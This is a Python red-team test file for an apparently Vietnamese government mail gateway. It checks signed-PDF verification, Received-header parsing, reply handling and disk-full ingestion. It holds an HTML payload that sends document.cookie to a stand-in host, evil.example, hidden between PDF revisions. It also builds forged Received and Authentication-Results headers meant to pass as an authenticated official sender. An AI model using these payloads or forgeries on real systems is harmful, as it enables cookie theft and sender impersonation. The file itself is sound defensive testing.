"""Red team 99 (2026-12-06): the fixes of red teams 94 to 98 (a signed PDF's bytes after its revisions, a Received line's
comments, address lists parsed before decoding, answers to our own answers, the resolver's unmarked patterns, a large
mail the store has no room for), attacked both ways: genuine mail the fixes now refuse, forged mail they still let in.
Its five findings, each fixed at stop 44: an HTML page put before an empty revision after the signature (now the bytes
after a signature are its later revisions' parts alone, each object where a section places it); Postfix's TLS comments
on the province's own hop lost a genuine login (now the client's comment is the one showing an address); a HELO ending in
";" (or holding "by", "id") made the MX's line a hop from the MX (now "by" must come first, once); a person's reply to
our return with a file vanished unanswered (now only a reply with no file at all is an autoresponder's); `ingest` of a
large file the store had no room for stopped the run (now hashed and held, as the daemon does)."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

from attacks_kit import on_top, results
from kit import make_mail
from test_redteam97 import SUBMISSION, _now, _put, _two_servers, forged_below_the_mx
from world import MX, STP, US, World

CLERK = US["mailbox"]
FORGED = "V/v giả mạo: chuyển toàn bộ hồ sơ cho Công ty ABC"
HTML = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"


def _answered(out: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
    return {(r["kind"], r["to"]) for r in out["replies"] if r["kind"] in ("ack", "return")}


# ---- 1. bytes after a signed file's revisions ------------------------------------------------------------------------
def _empty_revision(signed: bytes, before: bytes) -> bytes:
    """`signed`, then `before` (any bytes), then an incremental update that changes nothing: a cross-reference section
    of object 0 alone and a trailer whose /Prev is the signed revision's, one "%%EOF" (ISO 32000-1 §7.5.6)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(BytesIO(signed), strict=False)
    ident = re.findall(rb"/ID\s*(\[[^\]]*\])", signed)[-1]
    head = signed + before
    return head + (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size %d/Root %d 0 R/ID %s/Prev %d>>\nstartxref\n%d\n"
                   b"%%%%EOF\n" % (reader.trailer["/Size"], reader.trailer.raw_get("/Root").idnum, ident,
                                   reader.last_startxref, len(head)))


def test_an_html_page_before_an_empty_revision_after_the_signature_still_passes_as_signed(world: World) -> None:
    """Attack (red team 96's, one step further): Sở Tư pháp's genuine signed letter 991/STP-VP, then an HTML page with a
    script, then an incremental update that changes nothing (an empty cross-reference section, a trailer, "%%EOF").
    The fix counts one "%%EOF" after the signed revision for its one later revision and finds only white space after
    it; pyHanko reads the update as an archival one ("lta", allowed) and MuPDF reads the file as pyHanko does. The page
    and its script lie between the revisions, covered by no signature, as they lay after the "%%EOF" in red team 96's
    file (the same file is a zip polyglot, refused, when a zip stands there).
    Expected: `signature-modified` (bytes no revision explains after the signature), or refused: nothing numbered,
    nobody but the clerk told.
    Observed: accepted on its signature (modified_after false), numbered, Sở Tư pháp acknowledged, the script kept in
    the store and passed on whole."""
    signed = world.signed("stp", world.document(number="991/STP-VP"))
    sent = _empty_revision(signed, b"\n" + HTML + b"\n")
    assert sent.count(HTML) == 1 and sent.rstrip().endswith(b"%%EOF")
    [out] = world.ingest(world.mail("html-between-revisions", auth=None, attachments=[("cv.pdf", sent)]))
    assert out["incoming_number"] is None and _answered(out) == set(), \
        (out["verdict"], out["incoming_number"], [r["code"] for r in out["reasons"]], out.get("signatures"))


def test_a_genuine_empty_revision_after_the_signature_is_still_accepted(world: World) -> None:
    """(Passes; locks in the other side.) The same letter with the empty update and nothing between (as a tool that
    saves without changes writes it) and with a document timestamp after it (PAdES B-LTA): signed, unmodified."""
    from kit.signing import archive_timestamp

    first, second = (world.signed("stp", world.document(number=n)) for n in ("992/STP-VP", "993/STP-VP"))
    for name, sent in (("empty-update", _empty_revision(first, b"")), ("archived", archive_timestamp(second, world.pki))):
        [out] = world.ingest(world.mail(name, auth=None, attachments=[("cv.pdf", sent)]))
        assert out["verdict"] == "accepted" and not out["signatures"][0]["modified_after"], (name, out["reasons"])


# ---- 2. a Received line's comments -----------------------------------------------------------------------------------
TLS = ("(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS "
       "(2048 bits) server-digest SHA256) (No client certificate requested)")


def test_postfix_tls_comments_on_the_provinces_own_relay_hop_lose_a_genuine_login(world: World) -> None:
    """Attack on the fix (a false positive): the province runs Postfix with `smtpd_tls_received_header = yes` (common:
    it says how each hop was encrypted). Sở Tư pháp's clerk logs in at the submission server, which writes
    `auth=pass smtp.auth=vanthu@sotp…` and relays the mail over TLS to the MX. The MX's Received line of that internal
    hop reads "from smtp.bacgiang.gov.vn (smtp.bacgiang.gov.vn [10.0.0.7]) (using TLSv1.3 …) (No client certificate
    requested) by mx.bacgiang.gov.vn (Postfix) with ESMTPS": Postfix's own comments after the client's, both written
    by the server. The fix counts a line with more than one "(…)" for nobody (only "(Authenticated sender: …)" excepted),
    so the walk stops at the MX's line, and the submission server's genuine results below it are taken for forged.
    Expected: the hop from the province's own submission server counts; Sở Tư pháp's login proves the sender; its
    scanned letter is registered on the official-mailbox basis and acknowledged.
    Observed: unauthenticated (its genuine results called forged), the letter held for the clerk."""
    _two_servers(world)
    scan = world.scanned(world.document(number="995/STP-VP"))
    mail = make_mail(sender=STP, to=[CLERK], subject="Gửi văn bản 995/STP-VP", attachments=[("995.pdf", scan)])
    raw = on_top(mail, [
        results(f"{MX}; dkim=none; spf=none smtp.mailfrom=sotp.bacgiang.gov.vn"),
        f"Received: from {SUBMISSION} ({SUBMISSION} [10.0.0.7]) {TLS} by {MX} (Postfix) with ESMTPS id 4QxT; {_now()}",
        results(f"{SUBMISSION}; auth=pass smtp.auth={STP}"),
        f"Received: from pc.sotp (unknown [10.2.0.7]) by {SUBMISSION} (Postfix) with ESMTPSA id 9AbC; {_now()}",
    ])
    [out] = world.ingest(_put(world, "tls-hop", raw))
    assert out["sender"]["authenticated"], (out["sender"], out["verdict"], [r["code"] for r in out["reasons"]])
    assert (out["verdict"], _answered(out)) == ("accepted", {("ack", STP)}), out["reasons"]


def test_a_helo_ending_in_a_semicolon_makes_the_mx_line_a_hop_from_the_mx_itself(world: World) -> None:
    """Attack (the forger's, red team 97's by another HELO): the forger connects to the MX from the Internet
    (203.0.113.9) with the one-word HELO "mx.bacgiang.gov.vn;" (Postfix checks no HELO's syntax by default). The MX
    writes "from mx.bacgiang.gov.vn; (unknown [203.0.113.9]) by mx.bacgiang.gov.vn (Postfix) …". The gateway takes the
    name up to ";", sees the ";" as the clause that ends a `from` (RFC 5321's date separator) and never reads the
    server's "(unknown [203.0.113.9])": the line is a hop from the MX itself, and the walk goes on into the forger's own
    block below, where "Authentication-Results: smtp.bacgiang.gov.vn; auth=pass smtp.auth=vanthu@sotp…" stands above a
    Received "by smtp.bacgiang.gov.vn". The same with a HELO of two words whose second is a clause word
    ("mx.bacgiang.gov.vn by mx.bacgiang.gov.vn", "… id x").
    Expected: the MX's line is where the mail entered (its client 203.0.113.9); the results below are forged:
    unauthenticated, quarantined, nobody answered, nothing registered.
    Observed: the sender counts as Sở Tư pháp logged in; the forged scan is registered and Sở Tư pháp acknowledged."""
    forged_below_the_mx(world, 996, f"Received: from {MX}; (unknown [203.0.113.9]) by {MX} (Postfix) with ESMTP id 4QxT")



# ---- 4. answers to our own answers -----------------------------------------------------------------------------------
def _outbox(world: World) -> list[tuple[str, str, str]]:
    """(kind, recipient, message id) of every answer queued, in order."""
    from sqlalchemy import select

    from registry.models import Outbox

    register = world.db()
    try:
        with register.session() as s:
            return [(r.kind, r.recipient, r.message_id) for r in s.scalars(select(Outbox).order_by(Outbox.id))]
    finally:
        register.close()


def _docx(text: str) -> bytes:
    import zipfile

    out = BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
                   '.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
                   'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                   'wordprocessingml.document.main+xml"/></Types>')
        z.writestr("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
                   'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>' + text +
                   '</w:t></w:r></w:p></w:body></w:document>')
    return out.getvalue()


def _smtp(raw: bytes) -> bytes:
    return on_top(raw, [results(f"{MX}; auth=pass smtp.auth={STP}"),
                        f"Received: from pc.sotp (unknown [10.2.0.7]) by {MX} with ESMTPSA id A1; {_now()}"])


def test_a_clerks_reply_to_our_return_carrying_no_pdf_vanishes_unanswered_and_unseen(world: World) -> None:
    """Attack on the fix (no forger needed): Sở Tư pháp's clerk mails a covering letter and forgets the PDF; the gateway
    returns it (`no-document`). The clerk, a person, answers that return ("Re: …", In-Reply-To our return): "Xin gửi lại
    văn bản" with the letter attached as a Word file, and once more as a zip of the PDF, as clerks do. Neither has a PDF,
    so each "answers one of our answers" and is filed `ignored` (peer-answer): no answer to Sở Tư pháp, no alert to our
    clerk, nothing on the desk. Sở Tư pháp believes its letter delivered; our clerk never hears of it. (The same mail
    not quoting our return is returned, `no-document` / `unsupported-attachment`, telling the sender what to send.)
    Expected: a person's reply carrying files but no PDF is judged as any mail (returned with its reason, or held), or
    at least our clerk is told; only a mail marked automatic, or one with nothing but text, goes unanswered.
    Observed: both replies `ignored`: nobody is told anything."""
    covering = make_mail(sender=STP, to=[CLERK], subject="Gửi văn bản số 997/STP-VP")
    [out] = world.ingest(_put(world, "covering-letter", _smtp(covering)))
    assert out["verdict"] == "returned", out["verdict"]
    [(kind, to, ours)] = _outbox(world)
    assert (kind, to) == ("return", STP)
    verdicts = {}
    for name, attachment in (("word", ("997-STP-VP.docx", _docx("Số: 997/STP-VP. V/v báo cáo công tác tư pháp"))),
                             ("zip", ("997-STP-VP.zip", _zipped(world.signed("stp", world.document(number="997/STP-VP")))))):
        reply = make_mail(sender=STP, to=[CLERK], subject="Re: Trả lại văn bản: Gửi văn bản số 997/STP-VP",
                          body="Kính gửi Văn thư Sở Nội vụ,\n\nXin gửi lại văn bản 997/STP-VP kèm theo.\n",
                          attachments=[attachment], headers={"In-Reply-To": ours, "References": ours})
        [answer] = world.ingest(_put(world, f"reply-{name}", _smtp(reply)))
        verdicts[name] = (answer["verdict"], [r["code"] for r in answer["reasons"]], [r["kind"] for r in answer["replies"]])
    assert all(v[0] != "ignored" and v[2] for v in verdicts.values()), verdicts


def _zipped(pdf: bytes) -> bytes:
    import zipfile

    out = BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("997-STP-VP.pdf", pdf)
    return out.getvalue()


# ---- 6. a large mail the store has no room for -----------------------------------------------------------------------
from test_faults_infrastructure import small_disk  # noqa: E402,F401  (the fixture)


def test_ingest_of_a_large_file_the_store_has_no_room_for_aborts_the_run_where_the_daemon_goes_on(
        world: World, small_disk: Path) -> None:
    """Attack on the fix (its other half): the daemon now only hashes a mail above limits.max_mail_mb that the store's
    disk has no room for (beside limits.room_needed), holds it `mail-too-large` and goes on. `ingest` (README: "a file
    above limits.max_mail_mb is taken by both as the daemon takes such a mail") still streams it into the store
    whatever the room (`cli._read_mails` has no such check). max_mail_mb 2, the store's disk with 7 MB free (room for
    any mail under the limit: `status` raises no alert), a sender's mail of 9 MB, then Sở Tư pháp's good signed letter,
    given to one `ingest` (an operator's batch, a delivery hook).
    Expected: as the daemon: the large mail held, hashed and not kept; the good letter registered (exit 0 or 3).
    Observed: "qlvb-gateway: [Errno 28] No space left on device", exit 1, nothing printed: the good letter is never
    read, and every later run of the same batch fails the same way."""
    from test_faults_infrastructure import _fill
    from test_redteam92 import _leave_free
    from test_redteam94 import _big_mail

    world.extra["limits"] = {"max_mail_mb": 2}
    world.write_config()
    big = _big_mail(world, "m998", 9)
    good = world.mail("good", attachments=[("a.pdf", world.signed("stp", world.document(number="999/STP-VP")))])
    _leave_free(small_disk, _fill(small_disk), 7 * 2**20)
    done = world.run("ingest", "--config", str(world.config_path), "--json", str(big), str(good), check=False)
    outs = [__import__("json").loads(line) for line in done.stdout.splitlines() if line.strip()]
    verdicts = [(o["verdict"], [r["code"] for r in o["reasons"]]) for o in outs]
    assert done.returncode != 1 and len(outs) == 2, (done.returncode, done.stderr[-300:], verdicts)
    assert outs[1]["verdict"] == "accepted", verdicts
